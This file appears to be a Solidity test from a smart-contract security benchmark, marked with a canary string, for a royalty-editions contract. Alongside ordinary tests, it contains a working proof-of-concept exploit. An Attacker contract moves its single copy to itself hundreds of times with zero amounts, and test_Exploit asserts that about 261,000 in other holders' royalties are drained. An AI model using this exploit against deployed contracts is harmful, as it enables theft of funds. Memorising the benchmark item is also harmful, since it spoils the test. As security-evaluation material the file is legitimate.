// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.24;

import "./LinnetEditions.sol";

// assay-canary-3e5adf67-9aa0-4730-998b-46c48f9a57ca

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IPay {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Answers with something else.
contract Deaf {
    function onEditions(address, uint256[] calldata, uint256[] calldata) external pure returns (bytes4) {
        return 0x01020304;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant FAN = address(0xFA4);
    address internal constant FRIEND = address(0xF41E4D);
    uint256 internal constant START = 1_780_000_000;
    uint256 internal constant ROYALTIES = 264_000e6;

    Token internal usd;
    LinnetEditions internal editions;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        usd = new Token();
        editions = new LinnetEditions(usd);
        usd.mint(address(this), 400_000e6);
        usd.approve(address(editions), type(uint256).max);

        // a popular tier, whose royalties have flowed but are not claimed yet
        editions.openTier(100);
        editions.issue(0, FAN, 100);
        editions.payIn(0, ROYALTIES);
        vm.warp(START + 30 days);

        // a small one, of which the attacker has bought one copy
        thief = new Attacker(editions);
        editions.openTier(10);
        editions.issue(1, FAN, 9);
        editions.issue(1, address(thief), 1);
        editions.payIn(1, 9_000e6);
    }

    function test_Regular() public {
        uint256[] memory ids = new uint256[](2);
        uint256[] memory amounts = new uint256[](2);
        (ids[0], ids[1]) = ((uint256(1) << 128) | 1, (uint256(1) << 128) | 2);
        (amounts[0], amounts[1]) = (1, 1);

        vm.warp(START + 45 days);
        vm.prank(FAN);
        editions.move(FAN, FRIEND, ids, amounts);
        require(editions.copies(1, FAN) == 7 && editions.copies(1, FRIEND) == 2, "copies");
        vm.prank(FAN);
        (bool ok,) = address(editions).call(abi.encodeCall(Copies.move, (FAN, FRIEND, ids, amounts)));
        require(!ok, "moved twice");
        (ok,) = address(editions).call(abi.encodeCall(Copies.move, (FRIEND, FAN, ids, amounts)));
        require(!ok, "moved by a stranger");

        vm.warp(START + 60 days);
        vm.prank(FRIEND);
        require(_near(editions.claim(1), 900e6), "half the time");
        vm.prank(FAN);
        require(_near(editions.claim(1), 7_200e6), "seven and nine");
        vm.prank(address(thief));
        require(_near(editions.claim(1), 900e6), "one");
        vm.prank(FAN);
        require(_near(editions.claim(0), ROYALTIES), "first tier");
        require(usd.balanceOf(address(editions)) < 10, "books");

        vm.prank(FAN);
        editions.approveAgent(FRIEND, true);
        require(editions.isApproved(FAN, FRIEND), "agent");
    }

    function _near(uint256 a, uint256 b) internal pure returns (bool) {
        return a <= b && a + 4 > b;
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts.
    function refuses(address who) internal {
        vm.prank(who);
        vm.expectRevert();
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Copies are moved by their holder or an agent, tiers filled by their label.
    function test_RefusesStrangers() public {
        uint256[] memory ids = new uint256[](1);
        uint256[] memory amounts = new uint256[](1);
        (ids[0], amounts[0]) = ((uint256(1) << 128) | 1, 1);
        vm.prank(FAN);
        editions.approveAgent(FRIEND, true);
        vm.prank(FRIEND);
        editions.move(FAN, FRIEND, ids, amounts);
        require(editions.copies(1, FRIEND) == 1, "moved by an agent");
        refuses(FRIEND, Copies.LengthMismatch.selector);
        editions.move(FRIEND, FAN, ids, new uint256[](0));
        address deaf = address(new Deaf());
        refuses(FRIEND, abi.encodeWithSelector(Copies.Refused.selector, deaf));
        editions.move(FRIEND, deaf, ids, amounts);
        refuses(FAN, LinnetEditions.NotLabel.selector);
        editions.issue(1, FAN, 0);
        refuses(FAN, LinnetEditions.NotLabel.selector);
        editions.payIn(1, 0);
    }

    /// Tiers that are full or empty, and tokens that say no.
    function test_RefusesTiers() public {
        vm.expectRevert(LinnetEditions.TierFull.selector);
        editions.issue(1, FAN, 1);
        uint256 tier = editions.openTier(1);
        vm.expectRevert(LinnetEditions.NothingIssued.selector);
        editions.payIn(tier, 0);
        usd.sleep(true);
        vm.expectRevert();
        editions.payIn(1, 0);
        refuses(FAN);
        editions.claim(0);
    }

    function exploit() public {
        thief.multiply((uint256(1) << 128) | 10, 302);
        vm.warp(block.timestamp + 30 days);
        thief.collect(1);
    }

    function test_Exploit() public {
        uint256 before = fansCanClaim();
        exploit();
        require(fansCanClaim() + 261_000e6 <= before, "nothing lost");
    }

    /// What the holders of the first tier can claim, as far as it is there.
    function fansCanClaim() public view returns (uint256) {
        uint256 due = editions.claimable(0, FAN);
        uint256 held = usd.balanceOf(address(editions));
        return due < held ? due : held;
    }

    function target() public view returns (address) {
        return address(editions);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Sends itself none of its one copy, many times over.
contract Attacker {
    LinnetEditions internal editions;

    constructor(LinnetEditions editions_) {
        editions = editions_;
    }

    function multiply(uint256 id, uint256 times) external {
        uint256[] memory ids = new uint256[](times);
        uint256[] memory amounts = new uint256[](times);
        for (uint256 i = 0; i < times; ++i) {
            ids[i] = id;
        }
        editions.move(address(this), address(this), ids, amounts);
    }

    function onEditions(address, uint256[] calldata, uint256[] calldata) external pure returns (bytes4) {
        return IEditionReceiver.onEditions.selector;
    }

    function collect(uint256 tier) external {
        editions.claim(tier);
    }
}
